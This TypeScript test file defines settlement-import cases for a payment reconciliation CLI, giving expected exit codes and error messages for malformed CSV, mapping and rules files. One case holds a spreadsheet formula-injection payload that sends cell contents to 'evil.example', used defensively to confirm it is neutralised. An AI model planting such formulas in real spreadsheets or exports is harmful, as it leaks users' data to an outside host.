import type { CorpusCase } from './harness.js';

/**
 * Settlement files, mapping files and rules files through `payops reconcile run FILE
 * --non-interactive`, on a book where the checkouts of given/book.ndjson were charged through the
 * simulated PSP: ord_g1 (ch_sim_00000001, 20.00 USD, fee 0.88), ord_g2 (ch_sim_00000002, 10.00
 * USD, fee 0.59), ord_g3 (ch_sim_00000003, 15.00 EUR, fee 0.74). settlement/payops-good.csv
 * settles them exactly; most cases are that file with one thing wrong.
 *
 * The documented behaviour (docs/SETTLEMENT-FORMATS.md, docs/RECONCILIATION.md): a file whose
 * header fits no format, or a mapping or rules file that is wrong, is refused before anything is
 * read or written (exit 3; a file or flag that cannot be used at all, exit 2). A bad row is
 * reported as FILE:LINE field: reason and the other rows are imported in one run (exit 3);
 * `--strict` imports nothing. A file of which no row can be read imports nothing. Rows that do
 * not match the books become open items (exit 4).
 *
 * `added` names what a run adds (`imported`): the run, "run N: R read, J rejected", and each row
 * it imported, "run N row <PSP reference>".
 */
const imported = (references: readonly string[], rejected = 0, runId = 1): string[] => [
  `run ${runId}: ${references.length} read, ${rejected} rejected`,
  ...references.map((reference) => `run ${runId} row ${reference}`),
];
const GOOD_ROWS = [
  'ch_sim_00000001',
  'ch_sim_00000002',
  'ch_sim_00000003',
  'po_corpus_USD',
  'po_corpus_EUR',
];
const at = (line: number, field: string) => `:${line} ${field}: `;
const mapping = (name: string) => ['--mapping', `{corpus}/settlement/${name}`];
const rules = (name: string) => ['--rules', `{corpus}/settlement/${name}`];

export const SETTLEMENT_CASES: readonly CorpusCase[] = [
  // Controls: what a good file does, and the same file saved by other tools.
  {
    name: 'a good payops file settles every order and both payouts',
    input: 'settlement/payops-good.csv',
    expect: { exit: 0, added: imported(GOOD_ROWS) },
  },
  {
    name: 'a UTF-8 BOM and CRLF line ends',
    input: 'settlement/payops-bom-crlf.csv',
    expect: { exit: 0, added: imported(GOOD_ROWS) },
  },
  {
    name: 'times with offsets are converted to UTC',
    input: 'settlement/payops-date-offsets.csv',
    expect: { exit: 0, added: imported(GOOD_ROWS) },
  },
  {
    name: 'a header and no rows: a day without movements, recorded',
    input: 'settlement/payops-header-only.csv',
    expect: { exit: 0, added: imported([]) },
  },

  // The file as a whole: refused before anything is written.
  {
    name: 'an empty file',
    input: 'settlement/payops-empty.csv',
    expect: {
      exit: 3,
      message: 'the file is empty (expected a settlement file, starting with its header)',
    },
  },
  {
    name: 'a blank first line',
    input: 'settlement/payops-blank-first-line.csv',
    expect: { exit: 3, message: ':1 header: the first line is blank' },
  },
  {
    name: 'a UTF-16 file',
    input: 'settlement/payops-utf16.csv',
    expect: { exit: 3, message: ':1 encoding: the file is UTF-16LE' },
  },
  {
    name: 'semicolons for commas',
    input: 'settlement/payops-semicolon.csv',
    expect: { exit: 3, message: ':1 header: the columns are separated by ";", not commas' },
  },
  {
    name: 'tabs for commas',
    input: 'settlement/payops-tab.csv',
    expect: { exit: 3, message: ':1 header: the columns are separated by tabs, not commas' },
  },
  {
    name: 'a missing column',
    input: 'settlement/payops-missing-column.csv',
    expect: { exit: 3, message: 'not a known settlement format; closest is payops (missing: fee)' },
  },
  {
    name: 'an extra column: detection, which must never guess, refuses it',
    input: 'settlement/payops-extra-column.csv',
    expect: { exit: 3, message: 'closest is payops (unexpected: note)' },
  },
  {
    name: 'an extra column with --format payops is ignored',
    input: 'settlement/payops-extra-column.csv',
    args: ['--format', 'payops'],
    expect: { exit: 0, added: imported(GOOD_ROWS) },
  },
  {
    name: 'a column named twice',
    input: 'settlement/payops-repeated-column.csv',
    expect: { exit: 3, message: ':1 header: column "gross" appears twice' },
  },
  {
    name: 'a Stripe report without its payout column',
    input: 'settlement/stripe-missing-column.csv',
    expect: {
      exit: 3,
      message: 'closest is stripe (missing: automatic_payout_id; unexpected: payout_id)',
    },
  },

  // Rows cut short, too long, badly quoted: that row is refused, the others imported.
  {
    name: 'a last line cut in the middle',
    input: 'settlement/payops-truncated-mid-row.csv',
    expect: {
      exit: 3,
      message: `${at(6, 'csv')}the file ends in this row, with no line break after it`,
      added: imported(GOOD_ROWS.slice(0, 4), 1),
    },
  },
  {
    name: 'a last line cut where it still parses',
    input: 'settlement/payops-truncated-still-parses.csv',
    expect: {
      exit: 3,
      message: `${at(6, 'csv')}the file ends in this row, with no line break after it: it may have been cut short`,
      added: imported(GOOD_ROWS.slice(0, 4), 1),
    },
  },
  {
    name: 'a generic file cut in its last column, an amount',
    input: 'settlement/generic-amount-last.csv',
    args: mapping('mapping-amount-last.json'),
    expect: {
      exit: 3,
      message: `${at(3, 'csv')}the file ends in this row`,
      added: imported(['T-1'], 1),
    },
  },
  {
    name: 'a 10 MB line between good rows',
    generated: {
      name: 'ten-megabytes.csv',
      bytes: () => {
        const header =
          'record_type,psp_reference,merchant_reference,batch_id,currency,gross,fee,net,occurred_at,available_on';
        const row = (reference: string, order: string, gross: string, fee: string, net: string) =>
          `capture,${reference},${order},po_corpus_USD,USD,${gross},${fee},${net},2026-11-23T12:00:01.000Z,2026-11-24`;
        return Buffer.from(
          [
            header,
            row('ch_sim_00000001', 'ord_g1', '20.00', '0.88', '19.12'),
            row(`ch_${'x'.repeat(10 * 1024 * 1024)}`, 'ord_g9', '1.00', '0.00', '1.00'),
            row('ch_sim_00000002', 'ord_g2', '10.00', '0.59', '9.41'),
            '',
          ].join('\n'),
        );
      },
    },
    expect: {
      exit: 3,
      message: `${at(3, 'csv')}line is longer than 1048576 characters`,
      added: imported(['ch_sim_00000001', 'ch_sim_00000002'], 1),
    },
  },
  {
    name: 'rows with too few and too many fields',
    input: 'settlement/payops-field-counts.csv',
    expect: {
      exit: 3,
      message: `${at(3, 'row')}has 9 fields; the header has 10`,
      added: imported(['ch_sim_00000001', 'po_corpus_USD'], 2),
    },
  },
  {
    name: 'a quote never closed',
    input: 'settlement/payops-unclosed-quote.csv',
    expect: {
      exit: 3,
      message: `${at(3, 'merchant_reference')}a quoted field is never closed`,
      added: imported(['ch_sim_00000001', 'ch_sim_00000003', 'po_corpus_USD'], 1),
    },
  },

  // Amounts: exact, in the currency's decimals, within 64 bits, or the row is refused.
  {
    name: 'an amount in words',
    input: 'settlement/payops-amount-not-decimal.csv',
    expect: {
      exit: 3,
      message: `${at(3, 'gross')}"ten" is not a decimal amount`,
      added: imported(['ch_sim_00000001', 'ch_sim_00000003'], 1),
    },
  },
  {
    name: 'a decimal comma',
    input: 'settlement/payops-amount-decimal-comma.csv',
    expect: {
      exit: 3,
      message: `${at(3, 'gross')}"10,00" is not a decimal amount`,
      added: imported(['ch_sim_00000001', 'ch_sim_00000003'], 1),
    },
  },
  {
    name: 'a thousands separator',
    input: 'settlement/payops-amount-thousands.csv',
    expect: {
      exit: 3,
      message: `${at(3, 'gross')}"1,010.00" is not a decimal amount`,
      added: imported(['ch_sim_00000001', 'ch_sim_00000003'], 1),
    },
  },
  {
    name: 'three decimals in USD',
    input: 'settlement/payops-amount-too-many-decimals.csv',
    expect: {
      exit: 3,
      message: `${at(3, 'gross')}"10.001" has more decimals than USD allows (2); payops never rounds input`,
      added: imported(['ch_sim_00000001', 'ch_sim_00000003'], 1),
    },
  },
  {
    name: 'an amount beyond 64 bits',
    input: 'settlement/payops-amount-beyond-64-bits.csv',
    expect: {
      exit: 3,
      message: 'is beyond the largest amount payops can hold',
      added: imported(['ch_sim_00000001', 'ch_sim_00000003'], 1),
    },
  },
  // Issue 14 item 3: the per-amount limit of orders, on every amount of a row; sums of rows bounded too.
  {
    name: 'an amount above the per-amount limit of orders',
    input: 'settlement/payops-amount-above-limit.csv',
    expect: {
      exit: 3,
      message: `${at(3, 'gross')}"10000000000000.01" is more than one amount may be (10000000000000.00 USD)`,
      added: imported(['ch_sim_00000001', 'ch_sim_00000003'], 1),
    },
  },
  {
    name: 'two JPY captures of nearly 2^63 (they made `reconcile run` exit 1; one was booked by a decision)',
    input: 'settlement/payops-jpy-near-2-63.csv',
    expect: {
      exit: 3,
      message: `${at(2, 'gross')}"9223372036854775000" is more than one amount may be (1000000000000000 JPY)`,
    },
  },
  {
    name: 'rows within the limit whose batch total would pass the most a batch may sum to: nothing imported',
    generated: {
      name: 'batch-sum-beyond-limit.csv',
      // 1,000 captures of 10^15 JPY sum to 10^18, the most a batch may; the 1,001st passes it.
      bytes: () =>
        Buffer.from(
          [
            'record_type,psp_reference,merchant_reference,batch_id,currency,gross,fee,net,occurred_at,available_on',
            ...Array.from(
              { length: 1001 },
              (_, index) =>
                `capture,ch_big_${index + 1},ord_big_${index + 1},po_big,JPY,1000000000000000,0,1000000000000000,2026-11-23T12:00:01.000Z,2026-11-24`,
            ),
            '',
          ].join('\n'),
        ),
    },
    expect: {
      exit: 3,
      message: `${at(1002, 'gross')}the captures of batch po_big in JPY would total 1001000000000000000 JPY, more than a batch may sum to (1000000000000000000 JPY); nothing was imported`,
    },
  },
  {
    name: 'an exponent',
    input: 'settlement/payops-amount-exponent.csv',
    expect: {
      exit: 3,
      message: `${at(3, 'gross')}"1e1" is not a decimal amount`,
      added: imported(['ch_sim_00000001', 'ch_sim_00000003'], 1),
    },
  },
  {
    name: 'a plus sign',
    input: 'settlement/payops-amount-plus-sign.csv',
    expect: {
      exit: 3,
      message: `${at(3, 'gross')}"+10.00" is not a decimal amount`,
      added: imported(['ch_sim_00000001', 'ch_sim_00000003'], 1),
    },
  },
  {
    name: 'a net that is not gross − fee',
    input: 'settlement/payops-net-not-gross-minus-fee.csv',
    expect: {
      exit: 3,
      message: `${at(3, 'net')}9.42 is not gross 10.00 - fee 0.59 = 9.41`,
      added: imported(['ch_sim_00000001', 'ch_sim_00000003'], 1),
    },
  },
  {
    name: 'a capture with a negative gross',
    input: 'settlement/payops-wrong-sign.csv',
    expect: {
      exit: 3,
      message: `${at(3, 'gross')}a capture row's gross must be positive (got -10.00 USD)`,
      added: imported(['ch_sim_00000001', 'ch_sim_00000003'], 1),
    },
  },
  {
    name: 'an unknown row type',
    input: 'settlement/payops-unknown-type.csv',
    expect: {
      exit: 3,
      message: `${at(3, 'record_type')}"sale" is not one of capture`,
      added: imported(['ch_sim_00000001', 'ch_sim_00000003'], 1),
    },
  },
  {
    name: 'unknown, lower-case and four-letter currencies',
    input: 'settlement/payops-currency-unknown.csv',
    expect: {
      exit: 3,
      message: `${at(3, 'currency')}"usd" is not an ISO 4217 currency code (did you mean "USD"?)`,
      added: imported(['po_corpus_EUR'], 3),
    },
  },

  // Times: a zone is stated or the row is refused; nothing is guessed.
  {
    name: 'day-first dates, no zone, an impossible day, epoch seconds',
    input: 'settlement/payops-dates-wrong.csv',
    expect: {
      exit: 3,
      message: `${at(3, 'occurred_at')}"2026-11-23T12:00:02" is not an ISO 8601 time (add "Z" or an offset`,
      added: [],
    },
  },
  {
    name: 'a Stripe time in another layout or zone',
    input: 'settlement/stripe-created-wrong-format.csv',
    expect: {
      exit: 3,
      message: `${at(2, 'created_utc')}"11/23/2026 12:00" is not a date and time`,
      added: imported(['po_1Corpus'], 2),
    },
  },
  {
    name: 'an Adyen zone that names several zones, and one that names none',
    input: 'settlement/adyen-ambiguous-zone.csv',
    expect: {
      exit: 3,
      message: `${at(2, 'TimeZone')}"IST" names more than one zone`,
      added: imported(['8836000000000001'], 2),
    },
  },
  {
    name: 'Adyen wall times the clocks skip or repeat',
    input: 'settlement/adyen-clock-change.csv',
    expect: {
      exit: 3,
      message: `${at(3, 'Creation Date')}"2026-10-25 02:30:00" happens twice in Europe/Amsterdam`,
      added: imported(['8836000000000001'], 2),
    },
  },
  {
    name: "a generic date not in the mapping's format",
    input: 'settlement/generic-date-wrong-format.csv',
    args: mapping('mapping-good.json'),
    expect: {
      exit: 3,
      message: `${at(2, 'Booking date')}"2026-11-23 11:15:00" does not match the mapping's date format "DD.MM.YYYY HH:mm:ss"`,
      added: imported(
        ['T-100003', 'T-100004', 'T-100005', 'T-100006', 'T-100007', 'P-2026-11-25'],
        2,
      ),
    },
  },

  // Text: formulas are data; control characters and bytes that are not UTF-8 refuse the row.
  {
    name: 'spreadsheet formulas as references are kept as data, and neutralized in the report CSV',
    input: 'settlement/payops-formula-text.csv',
    expect: {
      exit: 4,
      added: imported(['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd']),
    },
    then: {
      args: ['reconcile', 'report', '--csv'],
      stdout: `batch,1,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",,USD`,
    },
  },
  {
    name: 'a formula in a Stripe description is kept as data',
    input: 'settlement/stripe-formula-description.csv',
    expect: { exit: 4, added: imported(['ch_3Corpus1', 'ch_3Corpus2', 'po_1Corpus']) },
  },
  {
    name: 'a bell, a tab and a line break inside fields',
    input: 'settlement/payops-control-characters.csv',
    expect: {
      exit: 3,
      message: `${at(2, 'psp_reference')}contains a control character (U+0007)`,
      added: imported(['ch_sim_00000003', 'po_corpus_EUR'], 3),
    },
  },
  {
    name: 'a NUL byte',
    input: 'settlement/payops-nul-byte.csv',
    expect: {
      exit: 3,
      message: `${at(2, 'merchant_reference')}contains a control character (U+0000)`,
      added: imported(['ch_sim_00000002', 'ch_sim_00000003'], 1),
    },
  },
  {
    name: 'a Latin-1 byte',
    input: 'settlement/payops-invalid-utf8.csv',
    expect: {
      exit: 3,
      message: `${at(3, 'batch_id')}is not valid UTF-8`,
      added: imported(['ch_sim_00000001', 'ch_sim_00000003'], 1),
    },
  },

  // Rows that do not match the books: imported, and left open for review.
  {
    name: 'a capture listed twice',
    input: 'settlement/payops-duplicate-row.csv',
    expect: { exit: 4, added: imported([...GOOD_ROWS, 'ch_sim_00000001']) },
  },
  {
    name: 'the same rows in other bytes after the file was imported are duplicates, settled once',
    input: 'settlement/payops-bom-crlf.csv',
    given: 'reconciled',
    expect: { exit: 4, added: imported(GOOD_ROWS, 0, 2) },
  },
  {
    name: 'references to orders payops does not have',
    input: 'settlement/payops-unknown-orders.csv',
    expect: { exit: 4, added: imported(['ch_sim_99999999', 're_sim_99999999', 'ch_sim_99999998']) },
  },

  // Whole-run behaviour.
  {
    name: 'one bad row: the others are imported',
    input: 'settlement/payops-one-bad-row.csv',
    expect: {
      exit: 3,
      message: `${at(3, 'gross')}"ten" is not a decimal amount`,
      added: imported(['ch_sim_00000001', 'ch_sim_00000003', 'po_corpus_EUR'], 1),
    },
  },
  {
    name: 'one bad row with --strict: nothing is imported',
    input: 'settlement/payops-one-bad-row.csv',
    args: ['--strict'],
    expect: { exit: 3, message: `${at(3, 'gross')}"ten" is not a decimal amount` },
  },
  {
    name: 'no row can be read: nothing is imported, not even the run',
    input: 'settlement/payops-all-rows-bad.csv',
    expect: {
      exit: 3,
      message: 'not one of its rows could be read (3 rejected); nothing was imported',
    },
  },
  {
    name: 'the same bytes again after a run that rejected a row: the row is named again, exit 3',
    input: 'settlement/payops-one-bad-row.csv',
    given: 'imported-bad',
    expect: { exit: 3, message: `${at(3, 'gross')}"ten" is not a decimal amount` },
  },
  {
    name: '--dry-run writes nothing',
    input: 'settlement/payops-good.csv',
    args: ['--dry-run'],
    expect: { exit: 0 },
  },

  // Other formats' own rules.
  {
    name: 'a Stripe report with lower-case currencies',
    input: 'settlement/stripe-good.csv',
    expect: { exit: 4, added: imported(['ch_3Corpus1', 'ch_3Corpus2', 'po_1Corpus']) },
  },
  {
    name: 'an unknown Stripe reporting category',
    input: 'settlement/stripe-unknown-category.csv',
    expect: {
      exit: 3,
      message: `${at(3, 'reporting_category')}"sale" is not a Stripe reporting category payops knows`,
      added: imported(['ch_3Corpus1', 'po_1Corpus'], 1),
    },
  },
  {
    name: 'a thousands separator in a Stripe amount',
    input: 'settlement/stripe-thousands-separator.csv',
    expect: {
      exit: 3,
      message: `${at(3, 'gross')}"1,010.00" is not a decimal amount`,
      added: imported(['ch_3Corpus1', 'po_1Corpus'], 1),
    },
  },
  {
    name: 'an Adyen report',
    input: 'settlement/adyen-good.csv',
    expect: { exit: 4, added: imported(['8816000000000001', '8836000000000001']) },
  },
  {
    name: 'an Adyen amount in both the debit and the credit column',
    input: 'settlement/adyen-debit-and-credit.csv',
    expect: {
      exit: 3,
      message: `${at(2, 'Gross Credit (GC)')}and Gross Debit (GC) are both filled in`,
      added: imported(['8836000000000001'], 1),
    },
  },
  {
    name: 'a negative Adyen amount',
    input: 'settlement/adyen-negative-amount.csv',
    expect: {
      exit: 3,
      message: 'must not be negative: the column gives the direction',
      added: imported(['8836000000000001'], 1),
    },
  },
  {
    name: 'a PayPal report',
    input: 'settlement/paypal-good.csv',
    expect: { exit: 4, added: imported(['5TY05013RG0CORP1', '8MC585209K0CORP2']) },
  },
  {
    name: 'PayPal footer totals that disagree with the rows',
    input: 'settlement/paypal-footer-mismatch.csv',
    expect: {
      exit: 3,
      message: `${at(7, 'SF')}USD total gross credits 31.00 ≠ 30.00 summed from the section's rows`,
      added: imported(['5TY05013RG0CORP1', '8MC585209K0CORP2'], 1),
    },
  },
  {
    name: 'a PayPal report without its footers',
    input: 'settlement/paypal-truncated.csv',
    expect: {
      exit: 3,
      message: 'the file is truncated',
      added: imported(['5TY05013RG0CORP1', '8MC585209K0CORP2'], 1),
    },
  },
  {
    name: 'a PayPal amount with decimals (it writes minor units)',
    input: 'settlement/paypal-decimal-amount.csv',
    expect: {
      exit: 3,
      message: `${at(6, 'Gross Transaction Amount')}"10.00" is not an amount in minor units of USD`,
      added: imported(['5TY05013RG0CORP1'], 1),
    },
  },

  // Generic CSV and its mapping file: the mapping is checked before the file is read.
  {
    name: 'a generic file and its mapping',
    input: 'settlement/generic-good.csv',
    args: mapping('mapping-good.json'),
    expect: {
      exit: 4,
      added: imported([
        'T-100001',
        'T-100002',
        'T-100003',
        'T-100004',
        'T-100005',
        'T-100006',
        'T-100007',
        'P-2026-11-25',
      ]),
    },
  },
  {
    name: 'a mapping file with a byte order mark',
    input: 'settlement/generic-good.csv',
    args: mapping('mapping-bom.json'),
    expect: {
      exit: 4,
      added: imported([
        'T-100001',
        'T-100002',
        'T-100003',
        'T-100004',
        'T-100005',
        'T-100006',
        'T-100007',
        'P-2026-11-25',
      ]),
    },
  },
  {
    name: 'a type value the mapping does not list',
    input: 'settlement/generic-unmapped-type.csv',
    args: mapping('mapping-good.json'),
    expect: {
      exit: 3,
      message: /:2 Type: "sale" is not one of the types in .*mapping-good\.json \("SALE", "REFUND"/,
      added: imported(
        ['T-100002', 'T-100003', 'T-100004', 'T-100005', 'T-100006', 'T-100007', 'P-2026-11-25'],
        1,
      ),
    },
  },
  {
    name: 'a mapping with an unknown key',
    input: 'settlement/generic-good.csv',
    args: mapping('mapping-unknown-key.json'),
    expect: {
      exit: 3,
      message:
        'mapping-unknown-key.json: columns: unknown key "orderId"; known keys: type, currency',
    },
  },
  {
    name: 'a mapping without a required column',
    input: 'settlement/generic-good.csv',
    args: mapping('mapping-missing-column-key.json'),
    expect: {
      exit: 3,
      message: 'columns.currency: is missing (the name of the column that holds it)',
    },
  },
  {
    name: 'a mapping naming a column the file lacks',
    input: 'settlement/generic-good.csv',
    args: mapping('mapping-absent-column.json'),
    expect: {
      exit: 3,
      message: /:1 header: missing column\(s\) named in .*mapping-absent-column\.json: "Valuta"/,
    },
  },
  {
    name: 'a mapping zone that names several zones',
    input: 'settlement/generic-good.csv',
    args: mapping('mapping-ambiguous-zone.json'),
    expect: { exit: 3, message: 'dates.timeZone: "IST" names more than one zone' },
  },
  {
    name: 'a mapping zone that does not exist',
    input: 'settlement/generic-good.csv',
    args: mapping('mapping-unknown-zone.json'),
    expect: {
      exit: 3,
      message: 'dates.timeZone: "Europe/Atlantis" is not a time zone payops knows',
    },
  },
  {
    name: 'a mapping without a zone',
    input: 'settlement/generic-good.csv',
    args: mapping('mapping-no-zone.json'),
    expect: {
      exit: 3,
      message: "dates.timeZone: is missing: the zone the file's times are written in",
    },
  },
  {
    name: 'a mapping delimiter of two characters',
    input: 'settlement/generic-good.csv',
    args: mapping('mapping-two-char-delimiter.json'),
    expect: {
      exit: 3,
      message: 'delimiter: must be one character other than a quote or a line break',
    },
  },
  {
    name: 'a mapping amount convention that does not exist',
    input: 'settlement/generic-good.csv',
    args: mapping('mapping-bad-convention.json'),
    expect: {
      exit: 3,
      message:
        'amounts.convention: must be one of "signed-decimal", "minor-units", "debit-credit" (got "signed")',
    },
  },
  {
    name: 'a mapping type that is not a payops row type',
    input: 'settlement/generic-good.csv',
    args: mapping('mapping-bad-type.json'),
    expect: { exit: 3, message: 'types.SALE: "captured" is not one of capture' },
  },
  {
    name: 'a mapping date format without a year',
    input: 'settlement/generic-good.csv',
    args: mapping('mapping-bad-date-format.json'),
    expect: { exit: 3, message: 'dates.format: "DD/MM" has no YYYY' },
  },
  {
    name: 'a mapping that is not JSON',
    input: 'settlement/generic-good.csv',
    args: mapping('mapping-not-json.json'),
    expect: { exit: 3, message: 'mapping-not-json.json: not valid JSON' },
  },

  // Rules files: checked before the settlement file is read.
  {
    name: 'the example rules',
    input: 'settlement/payops-good.csv',
    args: rules('rules-good.json'),
    expect: { exit: 0, added: imported(GOOD_ROWS) },
  },
  {
    name: 'rules saved with a byte order mark and CRLF',
    input: 'settlement/payops-good.csv',
    args: rules('rules-bom-crlf.json'),
    expect: { exit: 0, added: imported(GOOD_ROWS) },
  },
  {
    name: 'a misspelt rule',
    input: 'settlement/payops-good.csv',
    args: rules('rules-unknown-key.json'),
    expect: { exit: 3, message: 'unknown rule "feeTolerence" (did you mean "feeTolerance"?)' },
  },
  {
    name: 'a negative tolerance',
    input: 'settlement/payops-good.csv',
    args: rules('rules-negative-tolerance.json'),
    expect: {
      exit: 3,
      message: 'rules-negative-tolerance.json feeTolerance.USD: must not be negative',
    },
  },
  {
    name: 'a tolerance without a cap',
    input: 'settlement/payops-good.csv',
    args: rules('rules-tolerance-without-cap.json'),
    expect: { exit: 3, message: 'writeOffTolerance.GBP: needs a capPerRun.GBP' },
  },
  {
    name: 'a tolerance finer than the currency',
    input: 'settlement/payops-good.csv',
    args: rules('rules-too-many-decimals.json'),
    expect: { exit: 3, message: 'feeTolerance.USD: "0.005" has more decimals than USD allows (2)' },
  },
  {
    name: 'a cap as a JSON number',
    input: 'settlement/payops-good.csv',
    args: rules('rules-json-number.json'),
    expect: {
      exit: 3,
      message: 'capPerRun.USD: amounts must be decimal strings such as "25.00", not JSON numbers',
    },
  },
  {
    name: 'a cap with an exponent',
    input: 'settlement/payops-good.csv',
    args: rules('rules-exponent.json'),
    expect: { exit: 3, message: 'capPerRun.USD: "2.5e1" is not a decimal amount' },
  },
  {
    name: 'a cap beyond 64 bits',
    input: 'settlement/payops-good.csv',
    args: rules('rules-beyond-64-bits.json'),
    expect: { exit: 3, message: 'is beyond the largest amount payops can hold' },
  },
  {
    name: 'a cap in a lower-case currency',
    input: 'settlement/payops-good.csv',
    args: rules('rules-unknown-currency.json'),
    expect: { exit: 3, message: '"usd" is not an ISO 4217 currency code (did you mean "USD"?)' },
  },
  {
    name: 'grace days that are not whole',
    input: 'settlement/payops-good.csv',
    args: rules('rules-grace-days.json'),
    expect: { exit: 3, message: 'graceDays: expected a whole number of days from 0 to 366' },
  },
  {
    name: 'rules as an array',
    input: 'settlement/payops-good.csv',
    args: rules('rules-not-an-object.json'),
    expect: { exit: 3, message: 'rules-not-an-object.json: expected a JSON object of rules' },
  },
  {
    name: 'rules that are not JSON',
    input: 'settlement/payops-good.csv',
    args: rules('rules-not-json.json'),
    expect: { exit: 3, message: 'rules-not-json.json: not valid JSON' },
  },
];
